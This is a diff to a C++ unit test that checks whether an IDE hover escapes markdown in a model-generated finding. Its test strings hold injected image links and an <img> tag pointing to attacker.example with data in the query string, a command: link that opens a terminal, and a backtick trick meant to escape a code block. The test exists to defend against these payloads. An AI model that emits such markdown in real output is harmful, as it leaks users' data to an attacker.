@@ -56,7 +56,7 @@ TEST(Mapping, HoverHasEverything) {
 // closed the block early so its own image rendered. Shown as text, not rendered.
 TEST(Mapping, HoverShowsTheModelsMarkdownAsText) {
   contract::Finding f = sample().finding;
-  f.title = "See ![x](https://attacker.example/t.png?d=title)";
+  f.title = "See ![x](https://attacker.example/t.png?d=title) \\`![t](https://attacker.example/a.png)`";
   f.explanation = "Look: ![s](https://attacker.example/p.png?d=secret) [run](command:workbench.action.terminal.new) "
                   "<img src=https://attacker.example/i.png>";
   f.suggestedFix = "[click](https://attacker.example/)";
@@ -68,7 +68,7 @@ TEST(Mapping, HoverShowsTheModelsMarkdownAsText) {
       if (at == 0 || md[at - 1] != '\\') return true;
     return false;
   };
-  for (const char* rendered : {"[x](", "[s](", "[run](", "<img", "[click]("})
+  for (const char* rendered : {"[x](", "[t](", "[s](", "[run](", "<img", "[click]("})
     EXPECT_FALSE(unescaped(rendered)) << rendered << "\n" << md;
   // The replacement stays whole inside one block a longer fence opens and closes.
   const auto open = md.find("````\nx = 1\n```\n![e]");
